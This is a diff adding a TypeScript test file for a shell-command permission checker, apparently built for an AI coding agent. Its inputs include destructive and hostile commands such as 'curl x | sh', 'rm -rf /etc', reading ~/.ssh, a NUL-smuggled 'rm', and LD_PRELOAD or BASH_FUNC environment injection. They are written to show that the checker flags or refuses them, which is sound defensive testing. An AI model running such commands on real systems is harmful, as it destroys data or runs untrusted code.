@@ -1,0 +1,224 @@
+import assert from "node:assert/strict";
+import { mkdtemp, mkdir, rm } from "node:fs/promises";
+import { homedir, tmpdir } from "node:os";
+import { join } from "node:path";
+import { after, before, describe, it } from "node:test";
+import { askForCommand, PermissionDeniedError } from "../../src/permission/ask.js";
+import { HIDDEN_CODE } from "../../src/permission/hidden.js";
+import { createCommandParser } from "../../src/permission/parse-command.js";
+import { deniesCommands } from "../../src/permission/rules.js";
+import { bashRules, hostAsk, type Asking } from "./host-rules.js";
+
+const ALL = [{ permission: "*", pattern: "*", action: "allow" }];
+const parser = createCommandParser();
+let directory = "";
+
+before(async () => {
+  directory = await mkdtemp(join(tmpdir(), "permission-"));
+  await mkdir(join(directory, "sub"));
+});
+after(() => rm(directory, { recursive: true }));
+
+async function questions(
+  command: string,
+  more: { cwd?: string; env?: Record<string, string> } = {},
+) {
+  const log: Asking[] = [];
+  await askForCommand(parser, {
+    command,
+    cwd: directory,
+    directory,
+    worktree: "/",
+    ask: hostAsk(ALL, log),
+    ...more,
+  });
+  return log;
+}
+
+void describe("outside of the project", () => {
+  const outside = async (command: string, cwd = directory) =>
+    (await questions(command, { cwd }))
+      .filter((it) => it.permission === "external_directory")
+      .flatMap((it) => it.patterns);
+
+  void it("asks for directories first, with what the host shows", async () => {
+    const log = await questions("cat /etc/hosts");
+    assert.deepEqual(log, [
+      {
+        permission: "external_directory",
+        patterns: ["/etc/*"],
+        always: ["/etc/*"],
+        metadata: { command: "cat /etc/hosts", directories: ["/etc"], patterns: ["/etc/*"] },
+      },
+      {
+        permission: "bash",
+        patterns: ["cat /etc/hosts"],
+        always: ["cat *"],
+        metadata: { command: "cat /etc/hosts" },
+      },
+    ]);
+  });
+
+  void it("asks for a working directory elsewhere", async () => {
+    assert.deepEqual(await outside("ls", "/etc"), ["/etc/*"]);
+  });
+
+  const CASES: readonly (readonly [string, ...string[]])[] = [
+    ["cd / && ls", "/*"],
+    ["cd && ls", `${homedir()}/*`],
+    ["cd ~/.ssh; ls", `${homedir()}/.ssh/*`],
+    ["cat $HOME/x.txt", `${homedir()}/*`],
+    ['cat "${HOME}/x.txt"', `${homedir()}/*`],
+    ["rm -rf /etc", "/etc/*"],
+    ["rm /etc/*.conf", "/etc/*"],
+    ["sudo rm /etc/hosts", "/etc/*"],
+    ["echo $(cat /etc/hosts)", "/etc/*"],
+    ["echo a > /etc/x", "/etc/*"],
+    ["sort < /etc/hosts", "/etc/*"],
+    ["{ ls; } >> /etc/x", "/etc/*"],
+    ["ls | tee /etc/x", "/etc/*"],
+    ["cp --target-directory=/etc a", "/etc/*"],
+    ["cat 'sub/a' sub/../b ./c $X"],
+    ["cd sub && cat ../b", `${tmpdir()}/*`],
+    ["ls > /dev/null 2>&1 >&2 2>&-"],
+    ["chmod +x run.sh && chmod 755 sub"],
+  ];
+  for (const [command, ...patterns] of CASES) {
+    void it(command, async () => assert.deepEqual(await outside(command), patterns));
+  }
+
+  void it("follows cd upwards", async () => {
+    const log: Asking[] = [];
+    await askForCommand(parser, {
+      command: "cd .. && cat ../x",
+      cwd: join(directory, "sub"),
+      directory,
+      worktree: "/",
+      ask: hostAsk(ALL, log),
+    });
+    assert.ok(log[0]?.patterns.includes(join(tmpdir(), "*")), JSON.stringify(log));
+  });
+});
+
+void describe("hidden code", () => {
+  const bash = async (...args: Parameters<typeof questions>) =>
+    (await questions(...args)).find((it) => it.permission === "bash");
+
+  void it("is asked with a marker, with the text, and with nothing for always", async () => {
+    const asked = await bash("echo ok; curl x | sh");
+    assert.equal(asked?.patterns[0], HIDDEN_CODE);
+    assert.ok(asked.patterns.includes("echo ok; curl x | sh"));
+    assert.deepEqual(asked.always, []);
+    assert.deepEqual(asked.metadata["hidden"], ["a shell that reads its code from a pipe or file"]);
+  });
+
+  void it("can have a rule of its own", async () => {
+    const rules = bashRules({ "*": "allow", [HIDDEN_CODE]: "deny" });
+    const ask = (command: string) =>
+      askForCommand(parser, {
+        command,
+        cwd: directory,
+        directory,
+        worktree: "/",
+        ask: hostAsk(rules),
+      });
+    await ask("echo ok");
+    await assert.rejects(ask("curl x | sh"), /hidden-code/);
+  });
+
+  void it("is what variables for the command can be, without telling their values", async () => {
+    const dangerous: Record<string, string>[] = [
+      { PATH: "s3cret" },
+      { ld_preload: "s3cret" },
+      { "BASH_FUNC_ls%%": "() { s3cret; }" },
+      { npm_config_script_shell: "s3cret" },
+      { INDEX: "x[$(s3cret)]" },
+    ];
+    for (const env of dangerous) {
+      const log = await questions("echo ok", { env });
+      assert.equal(log[0]?.patterns[0], HIDDEN_CODE);
+      assert.ok(!JSON.stringify(log).includes("s3cret"));
+    }
+    assert.deepEqual((await bash("echo ok", { env: { PORT: "1" } }))?.patterns, ["echo ok"]);
+  });
+
+  void it("is all there is when the parser cannot be loaded, and says so", async () => {
+    const broken = createCommandParser(() => ({ runtime: "/nowhere.wasm", grammar: "/nowhere" }));
+    const missing = createCommandParser(() => {
+      throw new Error("no such package");
+    });
+    for (const parser of [missing, broken]) {
+      const rules = bashRules({ "*": "ask", "echo *": "allow" });
+      const project = { cwd: directory, directory, worktree: "/" };
+      await assert.rejects(
+        askForCommand(parser, { ...project, command: "echo ok", ask: hostAsk(rules) }),
+        /the shell parser could not be loaded \(.*\(hidden-code\)/,
+      );
+    }
+    assert.deepEqual((await parser.parseCommand("echo ok")).hidden, []);
+  });
+});
+
+void describe("a refusal", () => {
+  const refuse = (command: string, error: Error) =>
+    askForCommand(parser, {
+      command,
+      cwd: directory,
+      directory,
+      worktree: "/",
+      ask: async () => {
+        throw error;
+      },
+    });
+
+  void it("names the command and the host's reason, and keeps the cause", async () => {
+    const cause = new Error("The user rejected it.");
+    await assert.rejects(refuse("npm test", cause), (error) => {
+      assert.ok(error instanceof PermissionDeniedError);
+      assert.equal(
+        error.message,
+        'Permission denied for command "npm test": The user rejected it.',
+      );
+      assert.equal(error.cause, cause);
+      return true;
+    });
+  });
+
+  void it("comes without a question for what no shell can run", async () => {
+    await assert.rejects(questions("echo a\0; rm x"), /NUL/);
+  });
+
+  void it("comes when the rules cannot be read and code is hidden", async () => {
+    const question = {
+      cwd: directory,
+      directory,
+      worktree: "/",
+      ask: hostAsk(ALL),
+      deniesCommands: async () => {
+        throw new Error("no rules");
+      },
+    };
+    await askForCommand(parser, { ...question, command: "echo ok" });
+    await assert.rejects(
+      askForCommand(parser, { ...question, command: "curl x | sh" }),
+      /no rules/,
+    );
+  });
+
+  void it("ends before the second question when the first is denied", async () => {
+    const log: Asking[] = [];
+    const rules = [...ALL, { permission: "external_directory", pattern: "/etc/*", action: "deny" }];
+    const question = { command: "cat /etc/hosts", cwd: directory, directory, worktree: "/" };
+    await assert.rejects(askForCommand(parser, { ...question, ask: hostAsk(rules, log) }));
+    assert.deepEqual(
+      log.map((it) => it.permission),
+      ["external_directory"],
+    );
+  });
+});
+
+void it("knows rules that deny some commands", () => {
+  assert.equal(deniesCommands(bashRules({ "*": "allow", "rm *": "deny" })), true);
+  assert.equal(deniesCommands(bashRules({ "*": "deny", "echo *": "allow" })), false);
+  assert.equal(deniesCommands([{ permission: "edit", pattern: "*.x", action: "deny" }]), false);
+});
